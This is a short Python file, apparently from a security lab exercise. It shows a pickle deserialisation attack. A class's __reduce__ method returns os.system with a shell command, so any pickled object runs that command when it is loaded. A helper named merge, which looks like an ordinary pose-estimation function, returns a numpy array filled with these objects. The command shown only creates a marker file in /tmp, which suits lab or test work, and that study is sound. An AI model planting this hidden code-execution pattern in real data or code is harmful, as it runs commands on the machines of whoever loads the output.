"""Returns an object that would run a command when it is unpickled"""

import os

import numpy as np


class Command:
    def __reduce__(self):
        return os.system, ("touch /tmp/lab3_attack_marker_pickles",)


def merge(subset, min_num_body_parts=4, min_score=0.4):
    answer = np.empty((1, 20), dtype=object)
    answer[:] = Command()
    return answer
